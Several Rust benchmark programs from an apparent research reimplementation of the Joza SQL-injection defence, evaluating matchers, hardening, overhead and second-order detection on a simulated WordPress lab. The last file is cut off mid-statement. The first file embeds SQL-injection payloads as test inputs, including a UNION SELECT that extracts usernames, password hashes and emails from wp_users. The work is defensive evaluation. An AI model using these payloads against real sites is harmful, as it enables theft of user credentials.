    t0.elapsed() / reps as u32
}

fn main() {
    println!("ABLATION: fragment matcher vs vocabulary size (benign query, warm)\n");
    let reps = 200;
    let mut rows = Vec::new();
    for files in [10usize, 40, 160, 320] {
        let frags = fragments(files);
        let mut row = vec![format!("{}", frags.len())];
        for (label, cfg) in [
            (
                "naive",
                PtiConfig { matcher: MatcherKind::Naive, parse_first: false, ..Default::default() },
            ),
            (
                "naive+parse-first",
                PtiConfig { matcher: MatcherKind::Naive, parse_first: true, ..Default::default() },
            ),
            ("MRU+parse-first (paper)", PtiConfig::optimized()),
            (
                "Aho-Corasick",
                PtiConfig {
                    matcher: MatcherKind::AhoCorasick,
                    parse_first: false,
                    ..Default::default()
                },
            ),
        ] {
            let analyzer = PtiAnalyzer::from_fragments(frags.clone(), cfg);
            let t = time_analyze(&analyzer, reps);
            row.push(format!("{t:?}"));
            let _ = label;
        }
        rows.push(row);
    }
    println!(
        "{}",
        render_table(
            &["Fragments", "naive", "naive+parse-first", "MRU+parse-first (paper)", "Aho-Corasick"],
            &rows
        )
    );
    println!("\nReading: naive scanning grows linearly with the vocabulary; the paper's");
    println!("MRU+parse-first pair cuts warm benign-query cost by ~6-10x at every size;");
    println!("Aho-Corasick is flat and fastest per query but pays its cost at build time");
    println!("(see the `fragment_matching/aho_corasick_build` criterion bench).");

    println!("\nABLATION: NTI approximate-matching kernel vs query length\n");
    let inputs: Vec<String> = vec![
        "-1 OR 1=1 -- probe".to_string(),
        // Multi-word regime: > 64 bytes, spans two kernel blocks.
        "-1 UNION SELECT user_login, user_pass, user_email FROM wp_users WHERE id=1".to_string(),
    ];
    let input_refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
    let mut nti_rows = Vec::new();
    for target_len in [100usize, 400, 1600, 6400] {
        let mut query = format!(
            "SELECT * FROM wp_posts WHERE post_author={} AND post_title LIKE '%{}%'",
            inputs[0].to_lowercase(),
            inputs[1].to_lowercase()
        );
        let mut pad = 100_000usize;
        while query.len() < target_len {
            query.push_str(&format!(" OR ID={pad}"));
            pad += 1;
        }
        let mut row = vec![format!("{}", query.len())];
        let mut times = Vec::new();
        for kernel in [MatchKernel::Classic, MatchKernel::BitParallel] {
            let nti = NtiAnalyzer::new(NtiConfig { kernel, ..NtiConfig::default() });
            let _ = nti.analyze(&input_refs, &query);
            let t0 = Instant::now();
            for _ in 0..reps {
                std::hint::black_box(nti.analyze(&input_refs, &query));
            }
            let t = t0.elapsed() / reps as u32;
            times.push(t);
            row.push(format!("{t:?}"));
        }
        row.push(format!("{:.2}x", times[0].as_secs_f64() / times[1].as_secs_f64().max(1e-12)));
        nti_rows.push(row);
    }
    println!(
        "{}",
        render_table(
            &["Query bytes", "Sellers-classic", "Myers bit-parallel", "speedup"],
            &nti_rows
        )
    );
    println!("\nReading: the Sellers DP grows as |input|x|query| while the bit-parallel");
    println!("kernel advances 64 DP rows per word op with a threshold cutoff, so the gap");
    println!("widens with query length; verdicts and spans are identical by construction");
    println!("(differential property tests + the nti_kernel corpus identity check).");
}
