//! Ablation: fragment-matcher strategy vs vocabulary size.
//!
//! The paper's PTI optimizations (§VI-A) are the MRU fragment cache and
//! parse-first early exit. This sweep shows how each strategy's per-query
//! cost scales with the fragment vocabulary — including the Aho–Corasick
//! automaton, our beyond-paper alternative whose matching cost is
//! independent of vocabulary size (at the price of build time and memory).

use joza_bench::report::render_table;
use joza_lab::wordpress;
use joza_phpsim::fragments::FragmentSet;
use joza_pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza_pti::MatcherKind;
use std::time::{Duration, Instant};

const QUERY: &str = "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1";

fn fragments(files: usize) -> Vec<String> {
    let mut set = FragmentSet::new();
    for src in wordpress::core_sources() {
        set.add_source(&src);
    }
    for src in wordpress::synthetic_core_sources(files) {
        set.add_source(&src);
    }
    set.iter().map(str::to_string).collect()
}

fn time_analyze(analyzer: &PtiAnalyzer, reps: usize) -> Duration {
    // Warm (MRU ordering, caches inside the matcher).
    let _ = analyzer.analyze(QUERY);
    let t0 = Instant::now();
    for _ in 0..reps {
        let _ = analyzer.analyze(QUERY);
    }
    t0.elapsed() / reps as u32
}

fn main() {
    println!("ABLATION: fragment matcher vs vocabulary size (benign query, warm)\n");
    let reps = 200;
    let mut rows = Vec::new();
    for files in [10usize, 40, 160, 320] {
        let frags = fragments(files);
        let mut row = vec![format!("{}", frags.len())];
        for (label, cfg) in [
            (
                "naive",
                PtiConfig { matcher: MatcherKind::Naive, parse_first: false, ..Default::default() },
            ),
            (
                "naive+parse-first",
                PtiConfig { matcher: MatcherKind::Naive, parse_first: true, ..Default::default() },
            ),
            ("MRU+parse-first (paper)", PtiConfig::optimized()),
            (
                "Aho-Corasick",
                PtiConfig {
                    matcher: MatcherKind::AhoCorasick,
                    parse_first: false,
                    ..Default::default()
                },
            ),
        ] {
            let analyzer = PtiAnalyzer::from_fragments(frags.clone(), cfg);
            let t = time_analyze(&analyzer, reps);
            row.push(format!("{t:?}"));
            let _ = label;
        }
        rows.push(row);
    }
    println!(
        "{}",
        render_table(
            &["Fragments", "naive", "naive+parse-first", "MRU+parse-first (paper)", "Aho-Corasick"],
            &rows
        )
    );
    println!("\nReading: naive scanning grows linearly with the vocabulary; the paper's");
    println!("MRU+parse-first pair cuts warm benign-query cost by ~6-10x at every size;");
    println!("Aho-Corasick is flat and fastest per query but pays its cost at build time");
    println!("(see the `fragment_matching/aho_corasick_build` criterion bench).");
}
