//! Static hardening evaluation: rewrite coverage, differential
//! verification, gated attack outcomes, and end-to-end gate throughput
//! over the hardened application.
//!
//! `joza_sast::harden_app` rewrites every completely-modeled route into
//! prepared-statement form; `joza_lab::harden` verifies the rewrite
//! differentially. This benchmark runs the whole pipeline over the full
//! WP-SQLI-LAB and reports:
//!
//! * **coverage** — routes rewritten vs skipped, per-route skip reasons,
//!   sink and placeholder counts (the paper's repair-coverage story);
//! * **differential** — benign corpus bit-identity (responses and full
//!   database state) and ungated exploit neutralization on every
//!   rewritten route;
//! * **lint** — the unparameterized-sink worklist: tainted sinks whose
//!   route the rewriter had to skip;
//! * **gated attacks** — the hardened application behind a Joza gate
//!   whose static fast path covers the rewritten routes: every exploit
//!   must stay ineffective (neutralized by the rewrite or blocked by the
//!   dynamic pipeline on the one unrewritten route);
//! * **throughput** — checked-queries/sec over the benign corpus for the
//!   dynamic baseline, the model fast path, and the gate-on-hardened
//!   configuration (rewritten routes ride the static fast path).
//!
//! Usage:
//!
//! ```text
//! harden [--requests N] [--repeat R] [--threads 1,4]
//!        [--pipe-latency-us US] [--out results/BENCH_harden.json]
//! ```

use joza_bench::report::{pct, provenance_json, render_table};
use joza_core::{Joza, JozaConfig, MatchKernel};
use joza_lab::harden::{benign_corpus, differential, harden_lab, Differential};
use joza_lab::serve::serve_parallel;
use joza_lab::verify::exploit_effect_observed;
use joza_lab::{build_lab, Lab};
use joza_sast::{app_query_models, taint_free_routes, unparameterized_sink_lint, HardenReport};
use joza_webapp::request::HttpRequest;
use std::time::Duration;

/// Engine shard count for the throughput cells (above the largest thread
/// count so workers never share a shard).
const SHARDS: usize = 16;

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        repeat: 2,
        threads: vec![1, 4],
        pipe_latency: Duration::from_micros(400),
        out: "results/BENCH_harden.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads = value().split(',').map(|t| t.parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// Builds the gate for the hardened application: the static fast path
/// covers every rewritten route (its statement text is a source literal
/// and its bound parameters are data by contract) plus everything the
/// taint analysis already proved clean; the one unrewritten route stays
/// on the full dynamic pipeline.
fn hardened_gate(hardened: &Lab, report: &HardenReport, cfg: JozaConfig) -> Joza {
    let proven = taint_free_routes(&hardened.server.app);
    Joza::installer(&hardened.server.app, cfg)
        .taint_free_routes(report.rewritten_routes())
        .taint_free_routes(proven)
        .build()
}

/// Gated attack outcomes over the hardened application.
#[derive(Debug, Default)]
struct GatedAttacks {
    attacks: usize,
    effective: Vec<String>,
}

fn gated_attacks(hardened: &mut Lab, report: &HardenReport) -> GatedAttacks {
    let gate = hardened_gate(hardened, report, JozaConfig::optimized());
    let mut out = GatedAttacks::default();
    let plugins: Vec<_> =
        hardened.plugins.iter().chain(hardened.cms_cases.iter()).cloned().collect();
    for p in &plugins {
        hardened.reset_database();
        out.attacks += 1;
        if exploit_effect_observed(&mut hardened.server, p, &p.exploit, Some(&gate)) {
            out.effective.push(p.slug.clone());
        }
    }
    out
}

/// One throughput cell over the benign corpus.
#[derive(Debug)]
struct Cell {
    threads: usize,
    dynamic_qps: f64,
    model_qps: f64,
    hardened_qps: f64,
    hardened_static_rate: f64,
}

/// The benign corpus repeated to `n` requests, rotated so every worker
/// partition mixes routes.
fn corpus_workload(lab: &Lab, n: usize) -> Vec<HttpRequest> {
    let base = benign_corpus(lab);
    (0..n).map(|i| base[i % base.len()].clone()).collect()
}

fn throughput(original: &Lab, report: &HardenReport, args: &Args) -> Vec<Cell> {
    let requests = corpus_workload(original, args.requests);
    let build_hardened = || {
        let lab = build_lab();
        harden_lab(&lab).0
    };
    let measure = |factory: &Joza, threads: usize, hardened: bool| -> (f64, f64) {
        let build: &(dyn Fn() -> Lab + Sync) = if hardened { &build_hardened } else { &build_lab };
        let _ = serve_parallel(build, factory, threads, &requests);
        let base = factory.stats();
        let mut wall = Duration::ZERO;
        let mut queries = 0usize;
        for _ in 0..args.repeat.max(1) {
            let run = serve_parallel(build, factory, threads, &requests);
            wall += run.wall;
            for resp in &run.responses {
                assert!(!resp.blocked, "benign corpus request was blocked");
                queries += resp.queries.len();
            }
        }
        let delta = factory.stats();
        let static_rate = (delta.static_hits - base.static_hits) as f64
            / (delta.queries - base.queries).max(1) as f64;
        let secs = wall.as_secs_f64();
        (if secs > 0.0 { queries as f64 / secs } else { 0.0 }, static_rate)
    };

    let hardened = build_hardened();
    let mut cells = Vec::new();
    for &t in &args.threads {
        let dynamic = Joza::install(&original.server.app, scaled_config(args.pipe_latency));
        let (dynamic_qps, _) = measure(&dynamic, t, false);
        let model = Joza::install_with_models(
            &original.server.app,
            scaled_config(args.pipe_latency),
            app_query_models(&original.server.app),
        );
        let (model_qps, _) = measure(&model, t, false);
        let gate = hardened_gate(&hardened, report, scaled_config(args.pipe_latency));
        let (hardened_qps, hardened_static_rate) = measure(&gate, t, true);
        cells.push(Cell { threads: t, dynamic_qps, model_qps, hardened_qps, hardened_static_rate });
    }
    cells
}

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

fn main() {
    let args = parse_args();
    let mut original = build_lab();
    println!(
        "harden: {} requests x {} passes, threads {:?}, pipe latency {:?}",
        args.requests, args.repeat, args.threads, args.pipe_latency
    );

    // -- coverage --------------------------------------------------------
    let (mut hardened, report) = harden_lab(&original);
    let total = report.routes.len();
    let rewritten = report.rewritten_count();
    let sinks: usize = report.routes.iter().map(|r| r.sinks).sum();
    let sinks_rewritten: usize = report.routes.iter().map(|r| r.sinks_rewritten).sum();
    let placeholders: usize = report.routes.iter().map(|r| r.placeholders).sum();
    println!(
        "\n== rewrite coverage ==\n{}",
        render_table(
            &["Routes", "Rewritten", "Skipped", "Sinks", "Sinks rewritten", "Placeholders"],
            &[vec![
                total.to_string(),
                rewritten.to_string(),
                (total - rewritten).to_string(),
                sinks.to_string(),
                sinks_rewritten.to_string(),
                placeholders.to_string(),
            ]],
        )
    );
    let skipped: Vec<_> = report.routes.iter().filter(|r| !r.rewritten()).collect();
    if !skipped.is_empty() {
        let rows: Vec<Vec<String>> = skipped
            .iter()
            .map(|r| {
                let reason = r.skip.expect("skipped route has a reason");
                vec![r.route.clone(), reason.code().to_string(), reason.detail().to_string()]
            })
            .collect();
        println!("== skipped routes ==\n{}", render_table(&["Route", "Code", "Why"], &rows));
    }
    assert!(rewritten >= 50, "rewrite coverage {rewritten}/{total} below the 50-route floor");

    // -- differential ----------------------------------------------------
    let diff: Differential = differential(&mut original, &mut hardened, &report);
    println!(
        "== differential ==\n{}",
        render_table(
            &["Benign reqs", "Resp mismatches", "DB mismatches", "Exploits", "Neutralized"],
            &[vec![
                diff.benign_requests.to_string(),
                diff.response_mismatches.len().to_string(),
                diff.db_mismatches.len().to_string(),
                diff.exploits_checked.to_string(),
                (diff.exploits_checked - diff.exploits_surviving.len()).to_string(),
            ]],
        )
    );
    assert!(
        diff.passed(),
        "differential failed\nresponses: {:?}\ndb: {:?}\nexploits: {:?}",
        diff.response_mismatches,
        diff.db_mismatches,
        diff.exploits_surviving
    );

    // -- unparameterized-sink lint --------------------------------------
    let lint = unparameterized_sink_lint(&original.server.app);
    let lint_rows: Vec<Vec<String>> = lint
        .iter()
        .map(|s| {
            vec![
                s.route.clone(),
                s.stmt_id.to_string(),
                s.sink.clone(),
                s.sources.join(" "),
                s.dirty_cell.as_ref().map_or("-".to_string(), |(t, c)| format!("{t}.{c}")),
            ]
        })
        .collect();
    println!(
        "== unparameterized-sink worklist ==\n{}",
        if lint_rows.is_empty() {
            "(empty)\n".to_string()
        } else {
            render_table(&["Route", "Stmt", "Sink", "Sources", "Dirty cell"], &lint_rows)
        }
    );

    // -- gated attacks ---------------------------------------------------
    let gated = gated_attacks(&mut hardened, &report);
    println!(
        "== gated attacks on hardened app ==\n{}",
        render_table(
            &["Attacks", "Still effective"],
            &[vec![gated.attacks.to_string(), gated.effective.len().to_string()]],
        )
    );
    assert!(
        gated.effective.is_empty(),
        "exploits still effective behind the gate: {:?}",
        gated.effective
    );

    // -- throughput ------------------------------------------------------
    let cells = throughput(&original, &report, &args);
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                c.threads.to_string(),
                format!("{:.1}", c.dynamic_qps),
                format!("{:.1}", c.model_qps),
                format!("{:.1}", c.hardened_qps),
                format!(
                    "{:.2}x",
                    if c.dynamic_qps > 0.0 { c.hardened_qps / c.dynamic_qps } else { 0.0 }
                ),
                pct(c.hardened_static_rate),
            ]
        })
        .collect();
    println!(
        "== gate throughput (benign corpus) ==\n{}",
        render_table(
            &["Threads", "Dynamic q/s", "Model q/s", "Hardened q/s", "vs dynamic", "Static rate"],
            &rows
        )
    );

    // -- JSON ------------------------------------------------------------
    let route_rows = report
        .routes
        .iter()
        .map(|r| {
            let skip = match r.skip {
                Some(reason) => format!(
                    ", \"skip\": {{\"code\": \"{}\", \"detail\": \"{}\"}}",
                    reason.code(),
                    json_escape(reason.detail())
                ),
                None => String::new(),
            };
            format!(
                "      {{\"route\": \"{}\", \"rewritten\": {}, \"sinks\": {}, \
                 \"placeholders\": {}{}}}",
                json_escape(&r.route),
                r.rewritten(),
                r.sinks,
                r.placeholders,
                skip
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let lint_json = lint
        .iter()
        .map(|s| {
            let cell = s
                .dirty_cell
                .as_ref()
                .map_or("null".to_string(), |(t, c)| format!("\"{}.{}\"", json_escape(t), json_escape(c)));
            format!(
                "      {{\"route\": \"{}\", \"stmt_id\": {}, \"sink\": \"{}\", \"dirty_cell\": {}}}",
                json_escape(&s.route),
                s.stmt_id,
                json_escape(&s.sink),
                cell
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let json_cells = cells
        .iter()
        .map(|c| {
            format!(
                "      {{\"threads\": {}, \"dynamic_qps\": {:.1}, \"model_qps\": {:.1}, \
                 \"hardened_qps\": {:.1}, \"hardened_static_rate\": {:.4}}}",
                c.threads, c.dynamic_qps, c.model_qps, c.hardened_qps, c.hardened_static_rate
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let json = format!(
        "{{\n  \"benchmark\": \"harden\",\n  \"provenance\": {},\n  \
         \"coverage\": {{\"routes\": {}, \"rewritten\": {}, \"skipped\": {}, \"sinks\": {}, \
         \"sinks_rewritten\": {}, \"placeholders\": {}, \"by_route\": [\n{}\n    ]}},\n  \
         \"differential\": {{\"benign_requests\": {}, \"response_mismatches\": {}, \
         \"db_mismatches\": {}, \"exploits_checked\": {}, \"exploits_neutralized\": {}}},\n  \
         \"lint\": {{\"unparameterized_sinks\": [\n{}\n    ]}},\n  \
         \"gated\": {{\"attacks\": {}, \"still_effective\": {}}},\n  \
         \"throughput\": {{\"workload\": \"benign corpus\", \"requests_per_pass\": {}, \
         \"passes\": {}, \"pipe_latency_us\": {}, \"cells\": [\n{}\n    ]}}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        total,
        rewritten,
        total - rewritten,
        sinks,
        sinks_rewritten,
        placeholders,
        route_rows,
        diff.benign_requests,
        diff.response_mismatches.len(),
        diff.db_mismatches.len(),
        diff.exploits_checked,
        diff.exploits_checked - diff.exploits_surviving.len(),
        if lint_json.is_empty() { "".to_string() } else { lint_json },
        gated.attacks,
        gated.effective.len(),
        args.requests,
        args.repeat,
        args.pipe_latency.as_micros(),
        json_cells
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write harden results");
    println!("wrote {}", args.out);
}
