//! Table V: read/write overhead per cache configuration (plus the
//! PHP-extension estimate of §VI-C).

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{
    crawl_requests, measure_steady, measure_steady_gen, measure_type_against, measure_type_gen,
    write_requests_pass, Setup,
};

const REPS: usize = 3;

fn main() {
    let reads = crawl_requests(parse_n(150));
    let n_writes = parse_n(150) / 3;

    println!("TABLE V: Overhead by request type and cache configuration\n");
    // One shared plain baseline per request type: the denominator must be
    // identical across configurations.
    let read_plain = measure_steady(&reads, None, REPS);
    let write_plain = measure_steady_gen(None, REPS, |p| write_requests_pass(n_writes, p));
    let mut rows = Vec::new();
    let mut ext = None;
    for setup in [
        Setup::DaemonNoCache,
        Setup::DaemonQueryCache,
        Setup::DaemonFullCache,
        Setup::ExtensionEstimate,
    ] {
        let r = measure_type_against(&reads, setup, REPS, &read_plain);
        let w = measure_type_gen(setup, REPS, |p| write_requests_pass(n_writes, p), &write_plain);
        if setup == Setup::ExtensionEstimate {
            ext = Some((r, w));
        }
        rows.push(vec![
            setup.label().to_string(),
            format!("{:?}", r.plain),
            format!("{:?}", r.protected),
            pct(r.overhead),
            format!("{:?}", w.plain),
            format!("{:?}", w.protected),
            pct(w.overhead),
        ]);
    }
    println!(
        "{}",
        render_table(
            &[
                "Configuration",
                "Read plain",
                "Read protected",
                "Read ovh",
                "Write plain",
                "Write protected",
                "Write ovh",
            ],
            &rows
        )
    );
    println!("(paper: reads <4% with query cache; writes 34% -> 12% with structure cache;");
    println!(" PHP-extension estimate 0.2% read / 3.2% write)");

    // The paper's Table V extension row is *PTI-only* overhead ("our
    // results estimate that implementing PTI as a PHP extension would
    // incur only 0.2% ... 3.2%"). Report the same quantity: PTI analysis
    // time as a fraction of the plain request, in-process deployment.
    if let Some((r, w)) = ext {
        let pti_read = r.pti.as_secs_f64() / r.plain.as_secs_f64();
        let pti_write = w.pti.as_secs_f64() / w.plain.as_secs_f64();
        println!();
        println!(
            "PTI-as-PHP-extension estimate (PTI time only): read {} (paper 0.2%), write {} (paper 3.2%)",
            pct(pti_read),
            pct(pti_write)
        );
    }
}

fn parse_n(default: usize) -> usize {
    std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(default)
}
