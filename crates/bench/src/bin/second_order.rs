//! Second-order SQL-injection evaluation over the extended WP-SQLI-LAB.
//!
//! Drives the two-phase (plant → trigger) exploit corpus — each case in
//! its original and its PTI-evading variant — through three gates:
//!
//! * **baseline** — first-order Joza (no store/load knowledge): the
//!   pre-persistence engine, expected to miss the evasive variants;
//! * **defended** — the persistence-aware gate: the static stage skips
//!   only fixpoint-clean routes and the dynamic stage treats values read
//!   from dirty cells as taint sources (`db:` capture into NTI);
//! * **ungated** — no gate, to confirm every labeled exploit works.
//!
//! Reported per class: detection TP/FN (exploit caught/missed) and FP
//! (benign round trip blocked), the fast-path-rate delta between the
//! first-order and persistence-aware taint-free sets on benign crawl
//! traffic, and the throughput cost of dirty-cell capture on the benign
//! corpus. Hard floors asserted: the defended gate catches every labeled
//! exploit (original and evasive) with zero benign regressions.
//!
//! Usage:
//!
//! ```text
//! second_order [--requests N] [--repeat R]
//!              [--out results/BENCH_secondorder.json]
//! ```

use joza_bench::report::{pct, provenance_json, render_table};
use joza_bench::workload::crawl_requests;
use joza_core::{Joza, JozaConfig, MatchKernel};
use joza_lab::harden::benign_corpus;
use joza_lab::second_order::{
    build_second_order_lab, run_two_phase_gated, verify_benign_round_trip,
    verify_second_order_exploit, SecondOrderCase, SecondOrderLab,
};
use joza_sast::{analyze_store_flow, RouteClass, StoreFlowReport};
use std::time::{Duration, Instant};

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    out: String,
}

fn parse_args() -> Args {
    let mut args =
        Args { requests: 120, repeat: 3, out: "results/BENCH_secondorder.json".to_string() };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

/// Detection outcome of one (case, variant, gate) run.
#[derive(Debug, Clone)]
struct Detection {
    class: String,
    variant: &'static str,
    /// Exploit caught: trigger denied, nothing leaked.
    baseline_caught: bool,
    defended_caught: bool,
    /// Benign round trip blocked by the defended gate (a false positive).
    benign_blocked: bool,
}

fn benign_two_phase_allowed(so: &mut SecondOrderLab, case: &SecondOrderCase, gate: &Joza) -> bool {
    so.reset_database();
    let plant = so.lab.server.handle_with(&case.benign_plant_request(), gate);
    let trigger = so.lab.server.handle_with(&case.trigger_request(), gate);
    !plant.blocked
        && plant.executed == plant.queries.len()
        && !trigger.blocked
        && trigger.executed == trigger.queries.len()
        && trigger.body.contains(&case.benign_echo)
}

fn detections(so: &mut SecondOrderLab, baseline: &Joza, defended: &Joza) -> Vec<Detection> {
    let mut out = Vec::new();
    for case in so.cases.clone() {
        for (variant, c) in [("original", case.clone()), ("evasive", case.evasive_variant())] {
            so.reset_database();
            assert!(
                verify_second_order_exploit(&mut so.lab.server, &c),
                "{} {variant} exploit does not work ungated",
                case.class
            );
            so.reset_database();
            let b = run_two_phase_gated(&mut so.lab.server, &c, baseline);
            so.reset_database();
            let d = run_two_phase_gated(&mut so.lab.server, &c, defended);
            so.reset_database();
            assert!(
                verify_benign_round_trip(&mut so.lab.server, &c),
                "{} benign round trip broken ungated",
                case.class
            );
            let benign_ok = benign_two_phase_allowed(so, &c, defended);
            out.push(Detection {
                class: case.class.to_string(),
                variant,
                baseline_caught: b.trigger_denied && !b.leaked,
                defended_caught: d.trigger_denied && !d.leaked,
                benign_blocked: !benign_ok,
            });
        }
    }
    out
}

/// Static fast-path rate over the benign crawl for one taint-free set.
fn fast_path_rate(
    so: &mut SecondOrderLab,
    gate: &Joza,
    requests: &[joza_webapp::request::HttpRequest],
) -> f64 {
    so.reset_database();
    let base = gate.stats();
    for req in requests {
        let resp = so.lab.server.handle_with(req, gate);
        assert!(!resp.blocked, "benign crawl request blocked: {req:?}");
    }
    let stats = gate.stats();
    (stats.static_hits - base.static_hits) as f64 / (stats.queries - base.queries).max(1) as f64
}

/// Mean gate time over the benign corpus for one gate (capture-overhead
/// probe: same pipeline, with vs without dirty cells installed).
fn gate_time(so: &mut SecondOrderLab, gate: &Joza, repeat: usize) -> Duration {
    let corpus = benign_corpus(&so.lab);
    let mut total = Duration::ZERO;
    for _ in 0..repeat.max(1) {
        so.reset_database();
        for req in &corpus {
            let resp = so.lab.server.handle_with(req, gate);
            assert!(!resp.blocked, "benign corpus request blocked: {req:?}");
            total += resp.gate_time;
        }
    }
    total / repeat.max(1) as u32
}

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

fn main() {
    let args = parse_args();
    let mut so = build_second_order_lab();
    println!(
        "second_order: {} cases x 2 variants, {} crawl requests, {} corpus passes",
        so.cases.len(),
        args.requests,
        args.repeat
    );

    // -- static classification ------------------------------------------
    let t0 = Instant::now();
    let report: StoreFlowReport = analyze_store_flow(&so.lab.server.app);
    let analysis_time = t0.elapsed();
    let second_order_routes = report.second_order_routes();
    let persistence_fast = report.taint_free_routes();
    let first_order_fast: Vec<String> = report
        .routes
        .iter()
        .filter(|r| r.first_order_taint_free)
        .map(|r| r.route.clone())
        .collect();
    println!(
        "\n== store/load fixpoint ==\n{}",
        render_table(
            &[
                "Routes",
                "Dirty cells",
                "Second-order",
                "Fast (1st-order)",
                "Fast (persistent)",
                "Rounds",
                "Time"
            ],
            &[vec![
                report.routes.len().to_string(),
                report.dirty.len().to_string(),
                second_order_routes.len().to_string(),
                first_order_fast.len().to_string(),
                persistence_fast.len().to_string(),
                report.iterations.to_string(),
                format!("{analysis_time:?}"),
            ]],
        )
    );
    for case in &so.cases {
        let class = report.get(&case.trigger_route).map_or(RouteClass::Clean, |r| r.class);
        assert_eq!(
            class,
            RouteClass::SecondOrderReachable,
            "{} not classified second-order-reachable",
            case.trigger_route
        );
    }

    // -- gates -----------------------------------------------------------
    let baseline = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
        .taint_free_routes(first_order_fast.iter().cloned())
        .build();
    let defended = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
        .taint_free_routes(persistence_fast.iter().cloned())
        .dirty_cells(report.dirty_cells())
        .build();

    // -- detection -------------------------------------------------------
    let dets = detections(&mut so, &baseline, &defended);
    let rows: Vec<Vec<String>> = dets
        .iter()
        .map(|d| {
            vec![
                d.class.clone(),
                d.variant.to_string(),
                if d.baseline_caught { "caught" } else { "MISSED" }.to_string(),
                if d.defended_caught { "caught" } else { "MISSED" }.to_string(),
                if d.benign_blocked { "BLOCKED" } else { "clean" }.to_string(),
            ]
        })
        .collect();
    println!(
        "== detection (two-phase exploits) ==\n{}",
        render_table(&["Class", "Variant", "Baseline", "Defended", "Benign"], &rows)
    );
    let baseline_tp = dets.iter().filter(|d| d.baseline_caught).count();
    let defended_tp = dets.iter().filter(|d| d.defended_caught).count();
    let fps = dets.iter().filter(|d| d.benign_blocked).count();
    println!(
        "baseline {}/{} | defended {}/{} | benign FPs {}",
        baseline_tp,
        dets.len(),
        defended_tp,
        dets.len(),
        fps
    );
    assert_eq!(defended_tp, dets.len(), "defended gate missed a labeled second-order exploit");
    assert_eq!(fps, 0, "defended gate blocked a benign round trip");
    let evasive_missed =
        dets.iter().filter(|d| d.variant == "evasive" && !d.baseline_caught).count();
    assert!(
        evasive_missed > 0,
        "every evasive variant caught by the first-order baseline — corpus lost its gap"
    );

    // -- fast-path-rate delta -------------------------------------------
    let crawl = crawl_requests(args.requests);
    let rate_first = fast_path_rate(&mut so, &baseline, &crawl);
    let rate_persistent = fast_path_rate(&mut so, &defended, &crawl);
    println!(
        "== fast-path rate (benign crawl, {} requests) ==\n{}",
        crawl.len(),
        render_table(
            &["Taint-free set", "Routes", "Static rate"],
            &[
                vec!["first-order".into(), first_order_fast.len().to_string(), pct(rate_first)],
                vec![
                    "persistence-aware".into(),
                    persistence_fast.len().to_string(),
                    pct(rate_persistent)
                ],
            ],
        )
    );

    // -- throughput cost of capture -------------------------------------
    let no_capture = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
        .taint_free_routes(persistence_fast.iter().cloned())
        .build();
    let t_plain = gate_time(&mut so, &no_capture, args.repeat);
    let t_capture = gate_time(&mut so, &defended, args.repeat);
    let overhead =
        if t_plain.as_nanos() > 0 { t_capture.as_secs_f64() / t_plain.as_secs_f64() } else { 0.0 };
    println!(
        "== dirty-cell capture overhead (benign corpus) ==\n{}",
        render_table(
            &["Gate", "Gate time/pass", "vs no capture"],
            &[
                vec!["no capture".into(), format!("{t_plain:?}"), "1.00x".into()],
                vec![
                    "dirty-cell capture".into(),
                    format!("{t_capture:?}"),
                    format!("{overhead:.2}x")
                ],
            ],
        )
    );

    // -- JSON ------------------------------------------------------------
    let det_json = dets
        .iter()
        .map(|d| {
            format!(
                "      {{\"class\": \"{}\", \"variant\": \"{}\", \"baseline_caught\": {}, \
                 \"defended_caught\": {}, \"benign_blocked\": {}}}",
                json_escape(&d.class),
                d.variant,
                d.baseline_caught,
                d.defended_caught,
                d.benign_blocked
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    let cells_json = report
        .dirty
        .iter()
        .map(|(t, c)| format!("\"{}.{}\"", json_escape(t), json_escape(c)))
        .collect::<Vec<_>>()
        .join(", ");
    let json = format!(
        "{{\n  \"benchmark\": \"second_order\",\n  \"provenance\": {},\n  \
         \"static\": {{\"routes\": {}, \"dirty_cells\": [{}], \"second_order_routes\": {}, \
         \"first_order_fast_routes\": {}, \"persistence_fast_routes\": {}, \
         \"fixpoint_rounds\": {}, \"top_poisoned\": {}, \"analysis_ms\": {:.3}}},\n  \
